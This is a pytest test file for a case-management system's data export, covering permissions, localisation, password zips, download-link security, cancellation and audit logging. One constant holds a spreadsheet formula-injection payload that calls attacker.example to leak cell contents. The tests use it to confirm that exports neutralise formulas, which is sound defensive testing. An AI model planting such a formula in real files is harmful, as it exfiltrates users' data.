"""Exports: only what the requester may read leaves, labelled in their language, inert in a
spreadsheet, optionally in a password zip, downloadable by them alone until it expires."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import pyzipper
from django.test import Client
from django.utils import timezone

from backend.accounts.models import User
from backend.attachments import links
from backend.audit.models import AccessLog
from backend.exports import running, services
from backend.exports.models import ExportJob
from tests.graphql_client import gql, login, use_tenant

# Export jobs run in the test's process, with or without a broker (REDIS_URL).
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_celery")]

START = """
mutation($type: String!, $format: ExportFormat!, $filter: JSON, $search: String,
         $fields: [String!], $locale: String, $password: String) {
  startExport(recordType: $type, format: $format, filter: $filter, search: $search,
              fields: $fields, locale: $locale, password: $password) {
    export { id status }
    errors { code path message }
  }
}
"""
JOB = """
query($id: ID!) {
  exportJob(id: $id) {
    id status progress rowCount error protected expiresAt
    file { url(expiresInSeconds: 600) size sha256 fileName }
  }
}
"""
CANCEL = """
mutation($id: ID!) { cancelExport(id: $id) { export { status } errors { code } } }
"""
REGISTER = """
mutation($input: CaseInput!) { createCase(input: $input) { case { id } errors { code } } }
"""
ACCESS_LOG = """
query($id: ID!) { accessLog(recordId: $id) { action export { id format filter fields } } }
"""

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def _token(username: str) -> str:
    value: str = login(username)["accessToken"]
    return value


def _register(worker: str, **values: Any) -> str:
    child = {
        "registrationDate": "2026-01-10",
        "nameFirst": "فاطمة",
        "sex": "female",
        "consentToShareWithReferral": True,
        "registrationNotes": FORMULA,
        **values,
    }
    body = gql(REGISTER, {"input": child}, worker)
    assert body["data"]["createCase"]["errors"] == [], body
    case_id: str = body["data"]["createCase"]["case"]["id"]
    return case_id


def _start(capture: Callable[..., Any], who: str, **arguments: Any) -> tuple[str, dict[str, Any]]:
    """Start an export and let the outbox run it in-process; the job as its user sees it."""
    variables = {"type": "case", "format": "XLSX", **arguments}
    with capture(execute=True):
        body = gql(START, variables, who)
    payload = body["data"]["startExport"]
    assert payload["errors"] == [], payload
    job_id: str = payload["export"]["id"]
    return job_id, gql(JOB, {"id": job_id}, who)["data"]["exportJob"]


def _download(url: str) -> bytes:
    response = Client().get(url.removeprefix("http://testserver"))
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


@pytest.mark.usefixtures("storage")
def test_cp_monitor_exports_cases_to_xlsx_without_any_pii_column(
    capture: Callable[..., Any],
) -> None:
    # given a case with a pii name, registered in the monitor's agency
    _register(_token("cp_worker"))
    monitor = _token("cp_monitor")

    # when the monitor exports cases in Arabic
    _, job = _start(capture, monitor, locale="ar")

    # then the spreadsheet has no pii column, and the name appears nowhere
    assert job["status"] == "COMPLETED", job
    book = openpyxl.load_workbook(io.BytesIO(_download(job["file"]["url"])), read_only=True)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    header = rows[0]
    assert "الاسم الأول" not in header  # name_first, tagged pii
    assert "تاريخ الميلاد" not in header  # date_of_birth, tagged pii
    assert "ملاحظات التسجيل" in header
    assert not any("فاطمة" in str(v) for row in rows for v in row)


@pytest.mark.usefixtures("storage")
def test_arabic_labels_and_values_read_back_and_a_formula_is_inert(
    capture: Callable[..., Any],
) -> None:
    worker = _token("cp_worker")
    _register(worker)

    _, job = _start(capture, worker, locale="ar", search="فاطمة")

    book = openpyxl.load_workbook(io.BytesIO(_download(job["file"]["url"])))
    sheet = book.worksheets[0]
    assert sheet.sheet_view.rightToLeft
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert row["الاسم الأول"] == "فاطمة"
    assert row["الجنس"] == "أنثى"  # the option's Arabic label, not its id
    notes = row["ملاحظات التسجيل"]
    assert notes == "'" + FORMULA
    assert sheet.cell(row=2, column=header.index("ملاحظات التسجيل") + 1).data_type == "s"


@pytest.mark.usefixtures("storage")
def test_csv_is_utf8_with_a_bom_and_neutralises_formulas(capture: Callable[..., Any]) -> None:
    worker = _token("cp_worker")
    _register(worker, nameFirst="+961 70 123456")

    _, job = _start(capture, worker, format="CSV", locale="en", fields=["nameFirst", "sex"])

    content = _download(job["file"]["url"])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][-2:] == ["First name", "Sex"]
    assert ["'+961 70 123456", "Female"] in [r[-2:] for r in rows[1:]]


@pytest.mark.usefixtures("storage")
def test_json_keeps_the_record_structure(capture: Callable[..., Any]) -> None:
    worker = _token("cp_worker")
    case_id = _register(
        worker,
        services=[{"serviceType": "health", "serviceDueDate": "2026-02-01"}],
    )

    _, job = _start(capture, worker, format="JSON")

    exported = json.loads(_download(job["file"]["url"]))
    record = next(r for r in exported["records"] if r["id"] == case_id)
    assert record["data"]["name_first"] == "فاطمة"
    assert record["data"]["services"][0]["service_type"] == "health"


@pytest.mark.usefixtures("storage")
def test_a_password_zip_opens_only_with_its_password(capture: Callable[..., Any]) -> None:
    worker = _token("cp_worker")
    _register(worker)

    _, job = _start(capture, worker, format="CSV", password="correct horse 42")

    assert job["protected"]
    assert job["file"]["fileName"].endswith(".csv.zip")
    with pyzipper.AESZipFile(io.BytesIO(_download(job["file"]["url"]))) as archive:
        (name,) = archive.namelist()
        archive.setpassword(b"wrong password")
        with pytest.raises(RuntimeError):
            archive.read(name)
        archive.setpassword(b"correct horse 42")
        assert archive.read(name).startswith(b"\xef\xbb\xbf")


@pytest.mark.usefixtures("storage")
def test_a_link_is_refused_to_another_user(capture: Callable[..., Any]) -> None:
    worker = _token("cp_worker")
    _register(worker)
    job_id, job = _start(capture, worker, format="CSV")
    use_tenant("demo")
    supervisor = User.objects.get(username="cp_supervisor", tenant__slug="demo")
    forged = links.sign_download(
        ExportJob.objects.get(pk=job_id).pk, supervisor.pk, supervisor.tenant_id, "export", 60
    )

    assert Client().get(f"/exports/{forged}").status_code == 403
    assert (
        gql(JOB, {"id": job_id}, _token("cp_supervisor"))["errors"][0]["extensions"]["code"]
        == "NOT_FOUND"
    )
    # and an attachment link does not open an export
    as_attachment = links.sign_download(
        ExportJob.objects.get(pk=job_id).pk, supervisor.pk, supervisor.tenant_id, "file", 60
    )
    assert Client().get(f"/exports/{as_attachment}").status_code == 403
    assert job["status"] == "COMPLETED"


@pytest.mark.usefixtures("storage", "queued_only")
def test_cancel_stops_the_export_between_batches_and_keeps_no_file(
    capture: Callable[..., Any], settings: Any, storage: Path
) -> None:
    worker = _token("cp_worker")
    for _ in range(5):
        _register(worker)
    settings.EXPORT_BATCH_SIZE = 2
    job_id, job = _start(capture, worker, format="CSV")
    assert job["status"] == "QUEUED"
    use_tenant("demo")
    tenant_id = ExportJob.objects.get(pk=job_id).tenant_id
    batches: list[int] = []

    def cancel_after_first(running_job: ExportJob) -> None:
        batches.append(1)
        cancelled = gql(CANCEL, {"id": job_id}, worker)["data"]["cancelExport"]
        assert cancelled == {"export": {"status": "CANCELLED"}, "errors": []}

    outcome = running.run_export(tenant_id, job_id, on_batch=cancel_after_first)

    assert outcome == "cancelled"
    assert batches == [1]
    seen = gql(JOB, {"id": job_id}, worker)["data"]["exportJob"]
    assert (seen["status"], seen["rowCount"], seen["file"]) == ("CANCELLED", 2, None)
    assert not any(p.is_file() for p in storage.rglob("*"))


@pytest.mark.usefixtures("storage")
def test_a_finished_export_cannot_be_cancelled(capture: Callable[..., Any]) -> None:
    worker = _token("cp_worker")
    _register(worker)
    job_id, _ = _start(capture, worker, format="CSV")

    refused = gql(CANCEL, {"id": job_id}, worker)["data"]["cancelExport"]

    assert refused["errors"] == [{"code": "BAD_USER_INPUT"}]


def test_expired_files_are_purged_and_their_links_refused(
    capture: Callable[..., Any], storage: Path
) -> None:
    worker = _token("cp_worker")
    _register(worker)
    job_id, job = _start(capture, worker, format="CSV")
    assert any(p.is_file() for p in storage.rglob("*"))

    purged = services.purge_expired(timezone.now() + timedelta(days=8))

    assert purged >= 1
    assert not any(p.is_file() for p in storage.rglob("*"))
    seen = gql(JOB, {"id": job_id}, worker)["data"]["exportJob"]
    assert (seen["status"], seen["file"]) == ("EXPIRED", None)
    refused = Client().get(job["file"]["url"].removeprefix("http://testserver"))
    assert refused.status_code == 403


@pytest.mark.usefixtures("storage")
def test_progress_and_row_count_cover_every_batch(
    capture: Callable[..., Any], settings: Any
) -> None:
    worker = _token("cp_worker")
    for _ in range(5):
        _register(worker)
    settings.EXPORT_BATCH_SIZE = 2

    _, job = _start(capture, worker, format="CSV")

    assert job["progress"] == 1.0
    content = _download(job["file"]["url"]).decode("utf-8-sig")
    assert job["rowCount"] == len(list(csv.reader(io.StringIO(content)))) - 1 >= 5


@pytest.mark.usefixtures("storage")
def test_every_exported_record_is_in_the_access_log_with_the_export(
    capture: Callable[..., Any],
) -> None:
    worker = _token("cp_worker")
    case_id = _register(worker)
    job_id, _ = _start(
        capture, worker, format="CSV", filter={"sex": {"eq": "female"}}, fields=["sex"]
    )

    entries = gql(ACCESS_LOG, {"id": case_id}, _token("admin"))["data"]["accessLog"]

    exported = [e for e in entries if e["action"] == "EXPORT"]
    assert exported == [
        {
            "action": "EXPORT",
            "export": {
                "id": job_id,
                "format": "csv",
                "filter": {"sex": {"eq": "female"}},
                "fields": ["sex"],
            },
        }
    ]
    use_tenant("demo")
    assert AccessLog.objects.filter(record_id=case_id, action="export").count() == 1


@pytest.mark.usefixtures("storage")
def test_a_pii_field_asked_for_by_cp_monitor_is_forbidden() -> None:
    body = gql(
        START, {"type": "case", "format": "CSV", "fields": ["nameFirst"]}, _token("cp_monitor")
    )

    assert body["data"]["startExport"]["errors"][0]["code"] == "FORBIDDEN_FIELD"


@pytest.mark.usefixtures("storage")
def test_a_bad_filter_or_locale_is_refused_with_a_code() -> None:
    worker = _token("cp_worker")

    bad_filter = gql(
        START, {"type": "case", "format": "CSV", "filter": {"nope": {"eq": 1}}}, worker
    )
    bad_locale = gql(START, {"type": "case", "format": "CSV", "locale": "xx"}, worker)

    assert bad_filter["data"]["startExport"]["errors"][0]["code"] == "BAD_USER_INPUT"
    assert bad_locale["data"]["startExport"]["errors"][0]["code"] == "BAD_USER_INPUT"


@pytest.mark.usefixtures("storage")
def test_pdf_is_a_summary_per_record_with_an_embedded_font(
    capture: Callable[..., Any],
) -> None:
    worker = _token("cp_worker")
    _register(worker)

    _, job = _start(capture, worker, format="PDF", locale="ar", search="فاطمة")

    content = _download(job["file"]["url"])
    assert job["status"] == "COMPLETED", job
    assert content.startswith(b"%PDF")
    assert b"FontFile2" in content  # the TrueType font travels with the file


REFER = """
mutation($id: ID!, $forms: [String!]!) {
  referCase(id: $id, toUser: "referral_worker", forms: $forms) { errors { code } }
}
"""


@pytest.mark.usefixtures("storage")
def test_csv_columns_do_not_count_entries_of_a_subform_hidden_on_a_referred_case(
    capture: Callable[..., Any],
) -> None:
    # given a case with three siblings, referred without the form that holds them
    worker = _token("cp_worker")
    siblings = [{"siblingName": name} for name in ("Omar", "Huda", "Sami")]
    case_id = _register(worker, siblings=siblings)
    body = gql(REFER, {"id": case_id, "forms": ["basic_identity"]}, worker)
    assert body["data"]["referCase"]["errors"] == [], body

    # when the referral worker, whose role is granted exports, exports what they see as CSV
    _grant_export("referral_worker")
    _, job = _start(capture, _token("referral_worker"), format="CSV", locale="en")

    # then the file is their one case, and its header says nothing of how many siblings
    # it has: no column group counts entries they may not read
    rows = list(csv.reader(io.StringIO(_download(job["file"]["url"]).decode("utf-8-sig"))))
    assert len(rows) == 2
    assert not [label for label in rows[0] if label.startswith("Siblings ")], rows[0]
    assert "Omar" not in "".join(rows[1])


def _grant_export(username: str) -> None:
    use_tenant("demo")
    role = User.objects.get(username=username).role
    assert role is not None
    role.actions = {**role.actions, "case": [*role.actions["case"], "export"]}
    role.save(update_fields=["actions"])


def test_a_role_without_the_export_action_cannot_export_what_it_reads(
    capture: Callable[..., Any],
) -> None:
    # given a service provider who reads referred cases but whose role grants no export
    referral_worker = _token("referral_worker")

    # when they ask for an export
    with capture(execute=True):
        body = gql(START, {"type": "case", "format": "CSV"}, referral_worker)

    # then it is refused, naming the action, and no job exists
    payload = body["data"]["startExport"]
    assert payload["export"] is None
    assert [e["code"] for e in payload["errors"]] == ["FORBIDDEN"]
    assert "export" in payload["errors"][0]["message"]
    use_tenant("demo")
    assert not ExportJob.objects.filter(user__username="referral_worker").exists()
